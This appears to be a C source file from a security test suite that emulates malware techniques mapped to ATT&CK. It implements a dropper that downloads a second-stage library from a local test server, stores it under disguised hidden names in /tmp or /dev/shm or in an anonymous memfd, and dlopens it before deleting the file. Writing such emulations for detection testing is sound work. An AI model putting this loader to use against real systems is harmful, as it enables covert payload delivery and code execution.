/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* scn_dropper_{tmp,shm,memfd}: an in-process dropper. Fetches its second
 * stage (libscn_stage.so) with a hand-written HTTP GET from the runner's
 * server on 127.0.0.1, writes it to a hidden-looking file in /tmp or
 * /dev/shm, or to a memfd (nothing on disk), makes it executable and
 * dlopens it (the memfd through /proc/self/fd/N), then removes the file.
 * ATT&CK: T1105 Ingress Tool Transfer, loaded as T1129 Shared Modules;
 * the memfd variant is T1620 Reflective Code Loading.
 * Proof: the stage's constructor writes NAME.ran, then NAME.done after it
 * connected out and ran code from memory it made executable.
 * Built three times with SCN_DROP_TMP, SCN_DROP_SHM or SCN_DROP_MEMFD. */
#include <dlfcn.h>
#include <sys/mman.h>
#include <sys/stat.h>

#include "scn.h"

int main(void)
{
	char path[256], *body = NULL;
	ssize_t len = scn_http_get(scn_port("SCENARIO_HTTP_PORT"), "/libscn_stage.so", &body);
	void *h;
	int fd;

	if (len <= 0) {
		fprintf(stderr, "dropper: download failed\n");
		return 1;
	}
#if defined(SCN_DROP_MEMFD)
	fd = memfd_create("pulse-shm", MFD_CLOEXEC);
	if (fd < 0 || write(fd, body, len) != len)
		return 1;
	fchmod(fd, 0755);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
#else
#if defined(SCN_DROP_SHM)
	snprintf(path, sizeof(path), "/dev/shm/.pulse-%d.so", (int)getpid());
#else
	snprintf(path, sizeof(path), "/tmp/.X11-cache-%d.so", (int)getpid());
#endif
	fd = -1;
	if (scn_write_file(path, body, len, 0600))
		return 1;
	chmod(path, 0755);
#endif
	free(body);
	h = dlopen(path, RTLD_NOW);
	fprintf(stderr, "dropper: %s %s\n", path, h ? "loaded" : dlerror());
	if (fd < 0)
		unlink(path);
	return h ? 0 : 3;
}
